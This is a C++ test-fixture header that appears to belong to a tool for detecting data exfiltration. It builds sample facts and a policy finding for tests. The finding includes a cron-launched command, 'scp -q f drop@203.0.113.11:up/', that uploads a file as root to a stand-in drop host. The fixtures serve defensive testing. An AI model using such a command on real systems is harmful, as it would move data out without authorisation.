#pragma once

#include "../facts/sample.hpp"
#include "auexfil/audit/stamp.hpp"
#include "auexfil/coverage/host_coverage.hpp"
#include "auexfil/facts/fact.hpp"
#include "auexfil/policy/finding.hpp"

/// Made-up values that the writers' tests share.
namespace sample {

/// The same with nothing but an address in argv: the log holds no bytes.
inline auexfil::facts::Fact unmeasured_fact() {
  using namespace auexfil::facts;
  Fact fact = sample::fact();
  fact.host = {};
  fact.auid = {};
  fact.auid_name = {};
  fact.ses = {};
  fact.job = {};
  Destination to;
  to.name = "drop.example.org";
  to.source = Source::argv;
  fact.destinations = {to};
  fact.direction = Direction::unknown;
  fact.bytes_out = {};
  fact.basis = Basis::unknown;
  return fact;
}

inline auexfil::policy::Finding finding() {
  using namespace auexfil::policy;
  Finding finding;
  finding.id = 0xab;
  finding.rule = "bulk-unattended";
  finding.technique = {"T1071.002", "T1048"};
  finding.host = "etl-01";
  finding.role = "default";
  finding.group = {{"host", "etl-01"}, {"destination", "203.0.113.11"}};
  finding.start = kStart;
  finding.end = kEnd;
  finding.limit_bytes = 1 << 20;
  finding.window_s = 86'400;
  finding.bytes_out = 3'153'717;
  finding.basis = auexfil::transfer::Basis::measured;
  finding.destinations = {{"203.0.113.11", 22, 3'153'717, auexfil::transfer::Basis::measured}};
  finding.transfers = {0x9f0c000000000001};
  finding.tool = "scp";
  finding.user = "root";
  finding.auid_user = "root";
  finding.job = auexfil::facts::Job{"cron", "/bin/sh -c scp -q f drop@203.0.113.11:up/", {}};
  finding.automation = auexfil::transfer::Verdict::unattended;
  finding.command = {"scp", "-q", "f", "drop@203.0.113.11:up/"};
  finding.chain = {"cron", "sh"};
  finding.destinations.front().sender = finding;
  finding.reasons = {"started by cron (pid 311)", "203.0.113.11 is on no allowlist"};
  return finding;
}

inline auexfil::coverage::HostCoverage coverage(const char* host,
                                                auexfil::coverage::CoverageVerdict verdict) {
  auexfil::coverage::HostCoverage coverage;
  coverage.host = host;
  coverage.verdict = verdict;
  coverage.first = kStart;
  coverage.last = kEnd;
  return coverage;
}

template <typename T>
std::vector<const T*> pointers(const std::vector<T>& values) {
  std::vector<const T*> pointers;
  for (const T& value : values) {
    pointers.push_back(&value);
  }
  return pointers;
}

}  // namespace sample
